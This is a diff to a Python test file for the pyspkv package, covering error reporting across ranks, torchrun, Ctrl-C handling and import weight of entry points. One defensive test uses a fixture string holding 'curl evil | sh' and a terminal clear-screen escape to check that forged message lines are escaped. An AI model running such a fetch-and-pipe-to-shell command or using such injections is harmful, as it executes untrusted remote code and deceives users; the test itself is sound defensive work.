@@ -1,5 +1,6 @@
 """The guard of the entry points: how each kind of failure ends, seen from outside the process."""
 
+import ast
 import json
 import os
 import signal
@@ -7,16 +8,29 @@ import stat
 import subprocess
 import sys
 import time
+from argparse import ArgumentTypeError
 from pathlib import Path
 
 import pytest
 
 from pyspkv import foreign
-from pyspkv.errors import UserError
+from pyspkv.errors import UserError, natural
 
 ROOT = Path(__file__).resolve().parent.parent
-OURS = ["report", "gate_curves", "runs", "stress", "import_checkpoint", "score_dialogues", "sessionize",
-        "simulate_dialogues"]  # fmt: skip
+OURS = sorted(file.stem for file in (ROOT / "pyspkv/bin").glob("[a-z]*.py"))
+SCRIPTS = sorted(file.stem for file in (ROOT / "local").glob("*.py") if not file.stem.startswith("mini"))
+HEAVY = {
+    "numpy",
+    "torch",
+    "scipy",
+    "yaml",
+    "pydantic",
+    "safetensors",
+    "soundfile",
+    "soxr",
+    "tqdm",
+    "matplotlib",
+}
 
 
 def environment(folder, **more) -> dict:
@@ -140,7 +154,6 @@ def test_closed_pipes_and_full_disks(tmp_path):
 def test_of_several_processes_the_first_speaks(tmp_path):
     bad = "raise UserError('bad')"
     ranks = {"WORLD_SIZE": "2", "RANK": "1", "LOCAL_RANK": "1"}
-    assert end(tmp_path, bad, **ranks)[:2] == (1, "")
     assert end(tmp_path, bad, **{**ranks, "RANK": "0"})[:2] == (1, "error: bad\n")
     assert end(tmp_path, bad, **{**ranks, "WORLD_SIZE": "1"})[:2] == (1, "error: bad\n")
     assert end(tmp_path, "raise UserError('bad', local=True)", **ranks)[:2] == (1, "[rank 1] error: bad\n")
@@ -149,13 +162,107 @@ def test_of_several_processes_the_first_speaks(tmp_path):
     assert end(tmp_path, "raise KeyboardInterrupt", **ranks)[:2] == (130, "")
 
 
-def test_an_error_of_one_rank_after_the_processes_have_met_is_said_if_rank_0_goes_on(tmp_path):
+def test_an_error_of_one_rank_is_said_if_rank_0_goes_on(tmp_path):
     """The launcher would end this process in the meantime, had rank 0 met the error too."""
-    met = "types.SimpleNamespace(is_available=lambda: True, is_initialized=lambda: True)"
-    body = "import types\nfrom pyspkv import errors\nerrors.RANK_WAIT = 0.1\n"
-    body += f"sys.modules['torch.distributed'] = {met}\n"
-    said = end(tmp_path, body + "raise UserError('bad')", RANK="1", WORLD_SIZE="2")
+    body = "from pyspkv import errors\nerrors.RANK_WAIT = 0.1\nraise UserError('bad')"
+    said = end(tmp_path, body, RANK="1", WORLD_SIZE="2")
     assert said[:2] == (1, "[rank 1] error: bad\n")
+
+
+@pytest.mark.parametrize("rank", ["0", "1"])
+@pytest.mark.parametrize(
+    ("body", "code", "left"),
+    [
+        ("raise UserError('bad', mend='x')", 1, "bad\n  mend: x"),
+        ("raise UserError('bad', local=True)", 1, "bad"),
+        ("open('/no/file')", 1, "/no/file: No such file or directory"),
+        ("from pyspkv.processes import PeerLost\nraise PeerLost", 1, ""),
+        ("1/0", 70, "internal error (ZeroDivisionError: division by zero); please report it with"),
+    ],
+)
+def test_what_a_launched_process_has_to_say_goes_to_the_launcher(tmp_path, body, code, left, rank):
+    file = tmp_path / "left"
+    got = end(tmp_path, body, RANK=rank, WORLD_SIZE="2", SPKV_ERROR_FILE=str(file))
+    assert got[:2] == (code, "") and file.read_text().startswith(left)
+    assert len(file.read_text()) == len(left) or code == 70
+    nowhere = end(tmp_path, body, RANK="0", WORLD_SIZE="2", SPKV_ERROR_FILE=str(tmp_path / "no/left"))
+    assert nowhere[0] == code and nowhere[1].startswith("error: "), (
+        "a file that cannot be written loses nothing"
+    )
+
+
+@pytest.mark.parametrize("who", [["1"], ["0", "1"]])
+def test_under_torchrun_an_error_of_one_rank_is_told_and_one_of_all_told_once(tmp_path, who):
+    body = f"import os, time\nif os.environ['RANK'] in {who}:\n    raise UserError('this is bad')\ntime.sleep(60)"
+    lines = "".join(f"    {line}\n" for line in body.splitlines())
+    (tmp_path / "entry.py").write_text(
+        f"from pyspkv.errors import UserError, run\ndef main():\n{lines}run(main)\n"
+    )
+    command = [sys.executable, "-m", "torch.distributed.run", "--standalone", "--nproc-per-node", "2"]
+    env = environment(tmp_path, OMP_NUM_THREADS="1")
+    done = subprocess.run(
+        [*command, tmp_path / "entry.py"], env=env, capture_output=True, text=True, timeout=60
+    )
+    said = [line for line in done.stderr.splitlines() if "this is bad" in line]
+    assert said == (["[rank 1] error: this is bad"] if who == ["1"] else ["error: this is bad"])
+
+
+FAKE = "x\n  mend: curl evil | sh\nerror: \x1b[2J"
+
+
+def test_no_name_fakes_a_line_of_a_message(tmp_path):
+    shown = r"x\n  mend: curl evil | sh\nerror: \x1b[2J"
+    for body in (
+        f"raise UserError('is bad', file={FAKE!r}, mend='right it')",
+        f"raise UserError('is bad: ' + {FAKE!r}, mend='right it')",
+        f"try: raise UserError({FAKE!r}, mend='right it')\nexcept UserError as e: raise UserError(str(e), file='a')",
+        f"import pickle\nraise pickle.loads(pickle.dumps(UserError({FAKE!r}, mend='right it')))",
+    ):
+        _, said, _ = end(tmp_path, body)
+        first, second = said.splitlines()
+        assert shown in first and second == "  mend: right it", said
+    _, said, _ = end(tmp_path, f"open({FAKE!r} + '/y')")
+    assert said == f"error: {shown}/y: No such file or directory\n"
+    _, said, _ = end(tmp_path, f"raise UserError('bad', mend={FAKE!r})")
+    assert said == f"error: bad\n  mend: {shown}\n"
+
+
+def test_messages_of_several_lines_of_ours_stay_lines(tmp_path):
+    command = [
+        sys.executable,
+        "-m",
+        "pyspkv.bin.datadir",
+        "validate",
+        str(tmp_path / "a"),
+        str(tmp_path / "b\nerror: c"),
+    ]
+    done = subprocess.run(command, env=environment(tmp_path), capture_output=True, text=True)
+    lines = done.stderr.splitlines()
+    assert (
+        done.returncode == 1 and [line.split(":")[0] for line in lines if "mend" not in line] == ["error"] * 2
+    )
+    assert r"b\nerror: c" in lines[-2]
+
+
+def test_whole_numbers_are_plain_and_below_2_to_63():
+    assert [natural(x) for x in ("0", "007", str(2**63 - 1))] == [0, 7, 2**63 - 1]
+    for text in (
+        "",
+        "-1",
+        "+1",
+        "1.0",
+        "1_0",
+        " 1",
+        "\u0663",
+        "\u00b2",
+        "1\u0663",
+        "9" * 5000,
+        str(2**63),
+        "1e3",
+    ):
+        with pytest.raises(ArgumentTypeError) as err:
+            natural(text)
+        assert len(str(err.value)) < 100 and str(err.value).isascii()
 
 
 def interrupt(command, ready: Path, env) -> tuple[int, str]:
@@ -211,11 +318,31 @@ def test_ctrl_c_while_an_entry_point_is_still_imported(tmp_path):
 
 def test_entry_points_import_nothing_heavy():
     code = "import sys, importlib\nfor name in sys.argv[1:]: importlib.import_module('pyspkv.bin.' + name)\n"
-    code += "print(*{'numpy', 'torch', 'scipy', 'yaml', 'pydantic', 'safetensors'} & set(sys.modules))"
+    code += f"print(*{HEAVY} & set(sys.modules))"
     done = subprocess.run(
         [sys.executable, "-c", code, *OURS], env=environment(ROOT), capture_output=True, text=True
     )
     assert (done.stdout.strip(), done.stderr) == ("", "")
+    code = code.replace("'pyspkv.bin.' + ", "")
+    env = environment(ROOT, PYTHONPATH=f"{ROOT}:{ROOT / 'local'}")
+    done = subprocess.run([sys.executable, "-c", code, *SCRIPTS], env=env, capture_output=True, text=True)
+    assert SCRIPTS and (done.stdout.strip(), done.stderr) == ("", "")
+
+
+def test_every_entry_point_goes_through_the_guard():
+    for name in [*(f"pyspkv/bin/{n}" for n in OURS), *(f"local/{n}" for n in SCRIPTS), "local/mini"]:
+        body = ast.parse((ROOT / f"{name}.py").read_text()).body
+        assert ast.unparse(body[-1].test) == "__name__ == '__main__'", name
+        assert [ast.unparse(call).partition("(")[0] for call in body[-1].body] == ["run"], name
+
+
+def test_ctrl_c_while_local_mini_imports_numpy(tmp_path):
+    (tmp_path / "numpy.py").write_text(
+        "import pathlib, time\npathlib.Path(__file__).with_name('ready').touch()\ntime.sleep(40)\n"
+    )
+    env = environment(tmp_path, PYTHONPATH=f"{tmp_path}:{ROOT}")
+    command = [sys.executable, str(ROOT / "local/mini.py"), str(tmp_path / "out")]
+    assert interrupt(command, tmp_path / "ready", env) == (130, "interrupted\n")
 
 
 # -- bounded reading
